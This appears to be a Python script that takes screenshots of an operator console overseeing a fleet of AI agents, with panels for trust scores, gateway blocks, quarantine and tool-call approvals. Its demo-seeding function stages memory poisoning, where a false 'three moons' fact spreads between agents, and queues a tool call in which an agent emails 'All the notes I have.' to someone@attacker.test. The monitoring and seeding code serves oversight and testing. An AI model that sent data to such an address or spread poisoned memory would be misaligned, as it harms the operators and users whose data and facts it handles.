"""Screenshot of the console as an operator sees it, taken offscreen:

    python -m console.screenshot OUT.png [--fleet F] [--corpus DIR] [--question Q] [--tier T] [--tab NAME]
                                         [--panel fleet|approvals|trust|alerts|cascade|gateway|memory|tools]
                                         [--repeat N] [--select AGENT] [--trace]

Starts the real console (run_console), waits for the fleet, asks the question (--repeat times, so the
trust plot has a history), waits for each answer, opens the evidence tab named by --tab (e.g.
"context", "generators"; a top panel's name, e.g. "trust", "alerts" or "cascade", works too) and the top panel
named by --panel (with --panel approvals, the question's review item is selected if it has one),
selects --select's agent (its fleet row, its trust line), saves `window.grab()` and closes the
window through the normal shutdown path. With --trace, the trace view of the last question is saved
instead. A question the gateway blocks outright has no answer; the run goes on when the gateway flagged it.
With --panel memory or --panel tools, a DEMO SEEDING step (seed_demo, below: screenshot-only, never part of
the product) first writes a few agents' memory entries and tool calls, so the panel has something to show.
The database goes to a temporary folder unless --db is given; the embedding cache is the usual one.
"""
from __future__ import annotations

import argparse
import logging
import os
import sys
import tempfile
from pathlib import Path

from PySide6.QtCore import QSize

DEFAULT_QUESTION = "What are the moons of Mars?"
SHOT_SIZE = QSize(1280, 800)
TOP_PANELS = ["fleet", "approvals", "trust", "alerts", "cascade", "gateway", "memory", "tools"]
DEMO_OPERATOR = "demo-operator"     # who the demo seeding's quarantine, rollback and approval are recorded as


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(prog="python -m console.screenshot", description=__doc__.split("\n\n")[0])
    parser.add_argument("out", type=Path, help="PNG file to write")
    parser.add_argument("--fleet", type=Path, help="fleet file (default: config/fleet.toml)")
    parser.add_argument("--settings", type=Path, help="engine settings file (default: config/engine.toml)")
    parser.add_argument("--corpus", type=Path, help="folder of your own .md, .txt, .html and .pdf files for the built-in agents")
    parser.add_argument("--question", default=DEFAULT_QUESTION)
    parser.add_argument("--tier", choices=["auto", "low", "medium", "high"], default="auto")
    parser.add_argument("--db", type=str, help="SQLite file or postgresql:// URL (default: a temporary file)")
    parser.add_argument("--cache-dir", type=Path, help="agents' cache folder (default: the user cache dir)")
    parser.add_argument("--tab", help="evidence tab to show, by the start of its name (case-insensitive): "
                                         "citations, context, generators or agents (default: the one the answer "
                                         "opens); or a top panel's name (see --panel)")
    parser.add_argument("--panel", choices=TOP_PANELS, default="fleet",
                        help="top panel to show: the fleet table, the approval queue, the trust plot, the "
                             "alerts, the cascade monitor's stage scores, the gateway's stopped messages, "
                             "agents' memory or their tool calls (memory and tools seed demo data first; "
                             "default: fleet)")
    parser.add_argument("--repeat", type=int, default=1, metavar="N",
                        help="ask the question N times before the screenshot (the demo fleet's gen-gamma is "
                             "quarantined after about 7)")
    parser.add_argument("--select", metavar="AGENT", help="agent to select (fleet row and trust line)")
    parser.add_argument("--trace", action="store_true",
                        help="save the trace view of the last question (its whole trace) instead of the window")
    parser.add_argument("--timeout", type=float, default=300.0, help="seconds to wait for the fleet, then the answer")
    return parser


def find_tab(names: list[str], wanted: str) -> int:
    """Position of the tab whose name starts with `wanted` (case-insensitive), or -1."""
    wanted = wanted.strip().lower()
    return next((i for i, name in enumerate(names) if name.lower().startswith(wanted)), -1)


async def seed_demo(engine, trace_id: str, operator: str = DEMO_OPERATOR) -> dict[str, int]:
    """DEMO SEEDING, for screenshots only: the default fleet's generators rarely write memory or ask for tools,
    so this writes what an operator would find after a while, straight through the engine's memory and tool
    broker (as agents' calls would arrive), and records an operator's decisions on some of it. The product
    never does this; the console only reads what agents did.

    Memory: gen-alpha and gen-beta write a few entries (in `trace_id`, the question just asked), every namespace
    is snapshotted, then a later trace writes a wrong fact in gen-alpha's memory, which gen-alpha reads and
    copies on in another trace; the operator quarantines the wrong fact, and rolls gen-beta back to the
    snapshot. Tools: an e-mail sent after approval (in the outbox), one rejected, two waiting, a memory write
    through the broker, and three refused or failed calls. Returns the ids worth selecting."""
    from uuid import uuid4

    from engine import ToolRequest

    # As agents' calls would arrive: the agents' side of memory and the tool broker (engine.parts), which no
    # operator's face offers.
    memory, tools = engine.parts.memory, engine.parts.tools
    poisoned, copied = uuid4().hex, uuid4().hex          # two later traces (agents' messages outside a question)

    async def write(agent: str, key: str, content: str, trace: str):
        result = await memory.write(agent, agent, key, content, trace)
        if not result.stored:
            raise RuntimeError(f"demo seeding: the gateway did not store {agent}/{key} ({result.action.value})")
        return result.entry

    def mail(to: str, subject: str, body: str) -> ToolRequest:
        return ToolRequest("send_email", {"to": to, "subject": subject, "body": body})

    await tools.handle("gen-alpha", ToolRequest("memory.write", {
        "key": "style", "content": "Short answers with one citation worked best."}), trace_id)
    await write("gen-alpha", "mars.moons", "Mars has two small moons, Phobos and Deimos.", trace_id)
    await write("gen-beta", "units", "Distances in kilometres, astronomical units for planets.", trace_id)
    await write("gen-beta", "sources", "NASA fact sheets were the most reliable source.", trace_id)
    snapshots = {s.namespace: s for s in await memory.snapshot_all("hourly", "engine")}
    wrong = await write("gen-alpha", "mars.moons", "Mars has three moons: Phobos, Deimos and Nereid.", poisoned)
    await write("gen-beta", "units", "Distances in miles only.", poisoned)
    await memory.read("gen-alpha", "gen-alpha", None, copied)
    await write("gen-alpha", "summary", "Three moons orbit Mars (Phobos, Deimos, Nereid).", copied)
    await memory.quarantine(wrong.id, operator, "contradicts the corpus: Mars has two moons")
    await memory.rollback_to_snapshot(snapshots["gen-beta"].id, operator, "units rewritten by an unverified trace")

    sent = await tools.handle("gen-alpha", mail("ops@example.org", "Daily summary",
                                                "14 questions answered, 1 held for review, 0 agents quarantined."),
                              trace_id)
    await tools.approve(sent.call_id, operator, "routine daily summary; text checked")
    await tools.handle("gen-beta", mail("ops@example.org", "Notes", "My notes on units."), trace_id)
    await tools.handle("gen-alpha", mail("someone@attacker.test", "Mars data", "All the notes I have."), poisoned)
    await tools.handle("gen-gamma", ToolRequest("sql_query", {"sql": "SELECT name FROM moons"}), trace_id)
    dropped = await tools.handle("gen-alpha", mail("someone@example.org", "Re: Mars",
                                                   "Mars has three moons: Phobos, Deimos and Nereid."), copied)
    await tools.reject(dropped.call_id, operator, "repeats the quarantined memory entry")
    waiting = await tools.handle("gen-alpha", mail("someone@example.org", "Your question about Mars",
                                                   "Mars has two moons, Phobos and Deimos (NASA fact sheet)."),
                                 trace_id)
    await tools.handle("gen-alpha", mail("finance@example.org", "Invoice 2291",
                                         "Please confirm the invoice for the telescope time."), trace_id)
    return {"entry": wrong.id, "call": waiting.call_id}


async def judges_checked(service, timeout_s: float) -> None:
    """Waits (at most timeout_s) until no judge is still answering its canaries: an answer the judge should read
    would otherwise say "meaning not read", which is the console's behaviour at start, not what a picture shows."""
    import asyncio
    import time
    from engine import FleetState
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline and any(a.status is FleetState.CHECKING for a in service.engine.fleet.agents()):
        await asyncio.sleep(0.5)


def make_script(out: Path, question: str, tier: str, timeout_s: float, tab: int | None = None,
                top_panel: str = "fleet", repeat: int = 1, select: str | None = None, trace: bool = False):
    from .signals import first_emission
    from .service import Phase

    async def show_seeded(window, service, trace_id: str) -> None:
        """Seeds the demo data (see seed_demo), reads it back through the service, selects something telling."""
        picks = await seed_demo(service.engine, trace_id)    # demo seeding only: the console never reaches past the service
        if top_panel == "memory":
            service.memory.load()
            await first_emission(service.memory.sig_loaded, timeout_s=timeout_s)
            window.show_memory()
            panel = window.memory_panel
            panel.select_entry(picks["entry"])
            panel.ask_spread()
            await first_emission(service.memory.sig_spread, timeout_s=timeout_s)
        else:
            service.tools.load()
            await first_emission(service.tools.sig_loaded, timeout_s=timeout_s)
            window.show_tools()
            window.tools_panel.select_call(picks["call"])

    async def script(window, service) -> int:
        log = logging.getLogger("console.screenshot")
        window.resize(SHOT_SIZE)           # the size the README's pictures have, whatever the offscreen screen is
        while not service.ready:
            if service.phase is Phase.FAILED:
                log.error("the fleet did not start; no screenshot")
                return 1
            await first_emission(service.sig_ready, service.sig_error, timeout_s=timeout_s)
        await judges_checked(service, timeout_s)
        panel = window.ask_panel
        answers, flagged = [], []
        service.questions.sig_answer.connect(answers.append)
        service.gateway.sig_flagged.connect(lambda event: flagged.append(event.trace_id))
        for n in range(max(repeat, 1)):
            panel.question.setText(question)
            panel.tier.setCurrentText(tier)
            panel.submit()
            _, (ok,) = await first_emission(service.questions.sig_finished, timeout_s=timeout_s)
            if not ok and not flagged:      # a question the gateway blocked has no answer, but a trace
                log.error("question %d failed; no screenshot", n + 1)
                return 1
        if tab is not None:
            panel.answer_view.show_tab(tab)
        if select:
            if not window.fleet_panel.select_agent(select):
                log.error("no agent %r in the fleet; no screenshot", select)
                return 1
        if top_panel == "trust":
            window.show_trust()
        elif top_panel == "alerts":
            window.show_alerts()
        elif top_panel == "cascade":
            window.show_cascade()
        elif top_panel == "gateway":
            window.show_gateway()
            window.gateway_panel.select_row(0)
        elif top_panel in ("memory", "tools"):
            last = answers[-1].trace_id if answers else (flagged[-1] if flagged else "")
            await show_seeded(window, service, last)
        elif top_panel == "approvals":
            window.show_approvals()
            if answers:
                item = next((i for i in window.approvals_panel.model.records() if i.trace_id == answers[-1].trace_id),
                            None)
                if item is not None:
                    window.approvals_panel.select_item(item.id)
        out.parent.mkdir(parents=True, exist_ok=True)
        shot = window
        if trace:
            last = answers[-1].trace_id if answers else (flagged[-1] if flagged else "")
            if window.trace_view.open_trace(last) is None:      # refused at once (the toast says why)
                log.error("no trace to show; no screenshot")
                return 1
            # Connected before the loop runs the read, so its signal cannot be missed.
            which, _ = await first_emission(service.traces.sig_loaded, service.traces.sig_failed, timeout_s=timeout_s)
            if which != 0:
                log.error("trace %s could not be shown; no screenshot", last)
                return 1
            shot = window.trace_view
        if not shot.grab().save(str(out)):
            log.error("cannot write %s", out)
            return 1
        log.info("screenshot saved to %s", out)
        return 0

    return script


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")    # must be set before QApplication exists
    from engine import load_fleet, load_settings
    from .app import run_console
    from .panels.answer import TAB_NAMES

    tab, panel = None, args.panel
    if args.tab:
        tab = find_tab(list(TAB_NAMES), args.tab)
        if tab < 0:
            top = find_tab(TOP_PANELS, args.tab)
            if top < 0:
                build_parser().error(f"--tab {args.tab!r}: no such tab (tabs: {', '.join(TAB_NAMES)}; "
                                     f"top panels: {', '.join(TOP_PANELS)})")
            tab, panel = None, TOP_PANELS[top]

    fleet = load_fleet(args.fleet, corpus_dir=args.corpus.resolve() if args.corpus else None)
    settings = load_settings(args.settings)
    with tempfile.TemporaryDirectory(prefix="quorum-screenshot-") as tmp:
        from .settings import use_scratch_settings      # the first-start layout, never the saved one
        use_scratch_settings(Path(tmp) / "settings")
        db_path = args.db or Path(tmp) / "quorum.db"
        script = make_script(args.out.resolve(), args.question, args.tier, args.timeout, tab, panel, args.repeat,
                             args.select, args.trace)
        return run_console(fleet, settings, db_path=db_path, cache_dir=args.cache_dir, script=script)


if __name__ == "__main__":
    sys.exit(main())
